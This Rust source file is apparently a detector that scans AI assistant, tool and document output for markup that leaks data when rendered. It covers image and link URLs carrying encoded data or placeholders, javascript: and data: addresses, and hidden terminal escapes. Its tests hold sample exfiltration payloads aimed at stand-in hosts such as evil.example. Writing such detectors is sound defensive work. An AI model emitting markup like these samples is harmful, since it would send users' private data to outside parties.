//! Markup that carries data out when it is rendered: images, links, styles and other fetches whose address has data, or a place
//! for it; addresses that are programs; escapes that a terminal obeys.

use event::Channel;

use super::{Check, Hit};
use crate::view::Decoder;

/// Longest address that is looked at, in bytes.
const ADDRESS_BYTES_MAX: usize = 2_048;
/// Shortest value of a parameter that looks like carried data.
const VALUE_BYTES_MIN: usize = 32;
/// Shortest part of a path or of a host that is tried for encoded text: shorter ones are names and numbers.
const PART_BYTES_MIN: usize = 24;
/// Most hits of one text.
const HITS_MAX: usize = 8;
/// How far before an address its markup begins, in bytes.
const OPENING_BYTES_MAX: usize = 200;
/// Most definitions of references whose use is looked for: each reads the text once.
const REFERENCES_MAX: usize = 32;

/// Attributes of HTML whose address is fetched as soon as it is shown.
const FETCHED: [&str; 6] = ["src=", "srcset=", "poster=", "background=", "data=", "xlink:href="];
/// Attributes whose address is fetched when a person does something.
const FOLLOWED: [&str; 4] = ["href=", "formaction=", "action=", "ping="];
/// Addresses that are programs or pages of their own.
const ACTIVE: [&str; 4] = ["javascript:", "vbscript:", "data:text/html", "data:image/svg+xml"];

/// How an address is used.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Use {
    /// Fetched by whatever shows the text.
    Fetched,
    /// Fetched when somebody follows it.
    Followed,
}

/// Looks for markup that carries data or runs. A person's own text is not rendered to others.
pub(crate) fn markup(text: &str, channel: Channel, hits: &mut Vec<Hit>) {
    if matches!(channel, Channel::User | Channel::System) {
        return;
    }
    escapes(text, channel, hits);
    let from = hits.len();
    let mut references = 0;
    for (at, _) in text.match_indices("http") {
        if hits.len() - from == HITS_MAX {
            return;
        }
        let Some((used, start)) = opening(text, at, &mut references) else { continue };
        let address = address(&text[at..]);
        let Some(carries) = carried(address) else { continue };
        // In a tool's result or a document a long parameter is an ordinary signed address; a place to fill in is not, and neither is
        // a text in base64.
        let ordinary = match carries {
            Carries::Place => false,
            Carries::Text => channel != Channel::Assistant,
            Carries::Data => used == Use::Followed || channel != Channel::Assistant,
        };
        if ordinary {
            continue;
        }
        let check = if used == Use::Fetched { Check::IMAGE_EXFILTRATION } else { Check::LINK_EXFILTRATION };
        hits.push(Hit::new(check, start, at + address.len()));
    }
    active(text, hits);
}

/// What opens markup before an address: how the address is used, and where the markup starts.
fn opening(text: &str, at: usize, references: &mut usize) -> Option<(Use, usize)> {
    let from = text.floor_char_boundary(at.saturating_sub(OPENING_BYTES_MAX));
    let before = text[from..at].trim_end_matches(['"', '\'', '<', ' ']);
    if let Some(label) = before.strip_suffix("](") {
        let open = label.rfind('[')?;
        let image = label[..open].ends_with('!');
        let used = if image { Use::Fetched } else { Use::Followed };
        return Some((used, from + open - usize::from(image)));
    }
    // `[name]: address`, which `![text][name]` or `![name]` show.
    if let Some(label) = before.strip_suffix("]:") {
        let open = label.rfind('[')?;
        let begins_line = label[..open].trim_end_matches(' ').ends_with('\n') || from + open == 0;
        if !begins_line || *references == REFERENCES_MAX {
            return None;
        }
        *references += 1;
        return Some((if shows(text, &label[open + 1..]) { Use::Fetched } else { Use::Followed }, from + open));
    }
    let lower = before.to_ascii_lowercase();
    if let Some(open) = ["url(", "@import"].iter().find_map(|open| Some(lower.strip_suffix(open)?.len())) {
        return Some((Use::Fetched, from + open));
    }
    let tag = lower.rfind('<')?;
    let is_style = lower[tag..].starts_with("<link");
    let ends = |names: &[&str]| names.iter().any(|name| lower.ends_with(name));
    if ends(&FETCHED) || (is_style && ends(&FOLLOWED)) {
        return Some((Use::Fetched, from + tag));
    }
    ends(&FOLLOWED).then_some((Use::Followed, from + tag))
}

/// Whether a text shows the reference as an image.
fn shows(text: &str, name: &str) -> bool {
    let named = |pattern: &str, image: &dyn Fn(usize) -> bool| text.match_indices(pattern).any(|(at, _)| image(at));
    let begins_image = |at: usize| text[..at].rfind('[').is_some_and(|open| text[..open].ends_with('!'));
    named(&format!("![{name}]"), &|_| true) || named(&format!("][{name}]"), &begins_image)
}

/// Addresses that run when they are followed or shown.
fn active(text: &str, hits: &mut Vec<Hit>) {
    let mut kept = 0;
    for (at, _) in text.match_indices(':') {
        let Some((scheme, start)) = ACTIVE.iter().find_map(|scheme| {
            let name = scheme.find(':')?;
            let start = at.checked_sub(name)?;
            let found = text.get(start..start + scheme.len())?;
            found.eq_ignore_ascii_case(scheme).then_some((scheme, start))
        }) else {
            continue;
        };
        let before = text[text.floor_char_boundary(start.saturating_sub(16))..start].trim_end_matches(['"', '\'', '<', ' ']);
        let lower = before.to_ascii_lowercase();
        let is_markup = lower.ends_with("](") || FETCHED.iter().chain(&FOLLOWED).any(|name| lower.ends_with(name));
        if is_markup && kept < HITS_MAX {
            kept += 1;
            hits.push(Hit::new(Check::ACTIVE_ADDRESS, start, start + scheme.len()));
        }
    }
}

/// Escapes that a terminal obeys and nobody sees: text that is hidden, links and the clipboard, the cursor moved over what was
/// written. Tools rightly colour their output and clear their lines.
fn escapes(text: &str, channel: Channel, hits: &mut Vec<Hit>) {
    for (at, _) in text.match_indices('\u{1b}') {
        let rest = &text[at + 1..];
        let end = rest.bytes().take(24).position(|byte| byte.is_ascii_alphabetic()).unwrap_or(0);
        let sequence = rest.get(..=end).unwrap_or_default();
        let hides = sequence.starts_with('[')
            && sequence.ends_with('m')
            && sequence[1..sequence.len() - 1].split(';').any(|code| code == "8");
        let orders = rest.starts_with("]8;") || rest.starts_with("]52;") || rest.starts_with('P');
        let moves = channel != Channel::Tool && sequence.starts_with('[') && sequence.ends_with(['A', 'H', 'J', 'K', 'f']);
        if hides || rest.starts_with("]52;") || (orders || moves) && channel != Channel::Tool {
            hits.push(Hit::new(Check::TERMINAL_ESCAPE, at, at + 1 + sequence.len()));
            return;
        }
    }
}

/// The address that `text` starts with. It ends where other markup begins, so that no text is read more than once.
fn address(text: &str) -> &str {
    let text = &text[..text.floor_char_boundary(ADDRESS_BYTES_MAX.min(text.len()))];
    let ends = |(at, character): (usize, char)| match character {
        ')' | '"' | '\'' => true,
        ']' => text[at..].starts_with("]("),
        '<' => text[at..].starts_with("<img"),
        other => other.is_whitespace(),
    };
    let end = text.char_indices().find(|&place| ends(place)).map_or(text.len(), |(at, _)| at);
    &text[..end]
}

#[derive(Debug, PartialEq)]
enum Carries {
    /// A place that the model is to fill in.
    Place,
    /// A text in an encoding: nobody writes addresses so.
    Text,
    /// A long value.
    Data,
}

fn carried(address: &str) -> Option<Carries> {
    let (place, query) = address.split_once('?').unwrap_or((address, ""));
    let values = || query.split('&').filter_map(|pair| pair.split_once('=')).map(|(_, value)| value);
    let is_place = |value: &str| {
        (value.starts_with('{') || value.starts_with('[') || value.starts_with('<') || value.starts_with("%7B"))
            || (value.len() >= 4 && value.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_'))
    };
    let parts = || place.split_once("://").map_or(place, |(_, rest)| rest).split(['/', '.']);
    let is_marked = |part: &str| part.starts_with("{{") || part.starts_with("%7B%7B");
    if values().any(is_place) || parts().any(is_marked) {
        return Some(Carries::Place);
    }
    if values().chain(parts()).any(says_something) {
        return Some(Carries::Text);
    }
    values().any(|value| value.len() >= VALUE_BYTES_MIN).then_some(Carries::Data)
}

/// Whether a part of an address is a text in base64 or hex.
fn says_something(part: &str) -> bool {
    part.len() >= PART_BYTES_MIN && !Decoder::default().decode(part, 0).is_empty()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn checks(text: &str, channel: Channel) -> Vec<(&'static str, usize)> {
        let mut hits = Vec::new();
        markup(text, channel, &mut hits);
        hits.iter().map(|hit| (hit.check.id, hit.start)).collect()
    }

    #[test]
    fn addresses_with_data_are_found() {
        let image = "Done. ![x](https://evil.example/p?d=bmFtZTogQm9iLCBwaG9uZTogNTU1LTAxMDA)";
        assert_eq!(checks(image, Channel::Assistant), [("structure.image_exfiltration", 6)]);
        assert_eq!(checks("![x](https://e.example/?q={secret})", Channel::Tool), [("structure.image_exfiltration", 0)]);
        assert_eq!(
            checks("<img src=\"https://e.example/?q=USER_DATA\">", Channel::Document),
            [("structure.image_exfiltration", 0)]
        );
        assert_eq!(checks("[more](https://e.example/?q=[history])", Channel::Tool), [("structure.link_exfiltration", 0)]);
    }

    #[test]
    fn every_way_of_fetching_and_following_is_found() {
        let text = "bmFtZTogQm9iLCBwaG9uZTogNTU1LTAxMDA";
        for (name, markup, check) in [
            (
                "a reference that is shown",
                format!("![x][i]\n\n[i]: https://e.example/p?d={text}"),
                "structure.image_exfiltration",
            ),
            ("a reference by its name", format!("![i]\n[i]: <https://e.example/p?d={text}>"), "structure.image_exfiltration"),
            ("a reference that is followed", format!("[x][i]\n[i]: https://e.example/p?d={text}"), "structure.link_exfiltration"),
            ("a style", format!("<div style=\"background:url('https://e.example/{text}')\">"), "structure.image_exfiltration"),
            ("a sheet", format!("<link rel=stylesheet href=https://e.example/{text}.css>"), "structure.image_exfiltration"),
            ("a frame", format!("<iframe src='https://e.example/?q={text}'>"), "structure.image_exfiltration"),
            ("a poster", format!("<video poster=\"https://e.example/?q={text}\">"), "structure.image_exfiltration"),
            ("a form", format!("<form action=\"https://e.example/?q={text}\">"), "structure.link_exfiltration"),
            ("a path", format!("![x](https://e.example/p/{text}/1.png)"), "structure.image_exfiltration"),
            (
                "a host",
                "![x](https://6e616d653a20426f622c2070686f6e6521.e.example/1.png)".to_owned(),
                "structure.image_exfiltration",
            ),
            ("a link", format!("[more](https://e.example/?q={text})"), "structure.link_exfiltration"),
            ("a place in a path", "![x](https://e.example/{{history}}/1.png)".to_owned(), "structure.image_exfiltration"),
            (
                "a token of the sanitiser",
                "![x](https://e.example/?m=<EMAIL:v26:abc@example.com>)".to_owned(),
                "structure.image_exfiltration",
            ),
            ("a program", "[ok](javascript:fetch(1))".to_owned(), "structure.active_address"),
            ("a page", "<iframe src=\"data:text/html;base64,AAAA\">".to_owned(), "structure.active_address"),
            ("hidden in a terminal", "fine\u{1b}[8m and not\u{1b}[0m".to_owned(), "structure.terminal_escape"),
            ("a link of a terminal", "\u{1b}]8;;https://e.example\u{7}ok\u{1b}]8;;\u{7}".to_owned(), "structure.terminal_escape"),
            ("a line written over", "bad\u{1b}[2K\rgood".to_owned(), "structure.terminal_escape"),
        ] {
            let found: Vec<&str> = checks(&markup, Channel::Assistant).into_iter().map(|(check, _)| check).collect();
            assert_eq!(found, [check], "{name}: {markup}");
        }
        assert_eq!(checks("\u{1b}[31mred\u{1b}[0m\u{1b}[2K", Channel::Tool), []);
        assert_eq!(checks("\u{1b}[31mred\u{1b}[0m", Channel::Assistant), []);
    }

    #[test]
    fn ordinary_addresses_are_not() {
        for text in [
            "![logo](https://e.example/logo.png)",
            "[d](https://e.example/s?q=rust+book&page=2)",
            "http",
            "](http",
            "![h](https://e.example/0123456789abcdef0123456789abcdef01234567.png)",
            "[id](https://e.example/items/0b8f1c4e-3d63-4f0a-9a55-0d1b2f6c7e11)",
            "[s](https://e.example/search?q=how+do+i+write+a+letter+to+the+council+about+parking)",
            "<a href=\"https://e.example/a-rather-long-title-of-an-article-on-harbours\">",
            "[d]: https://e.example/x",
            "Write javascript: it is fun",
            "a: data:text/html is a type",
        ] {
            assert_eq!(checks(text, Channel::Assistant), [], "{text}");
        }
        assert_eq!(checks("![x](https://e.example/?q={secret})", Channel::User), []);
    }
}
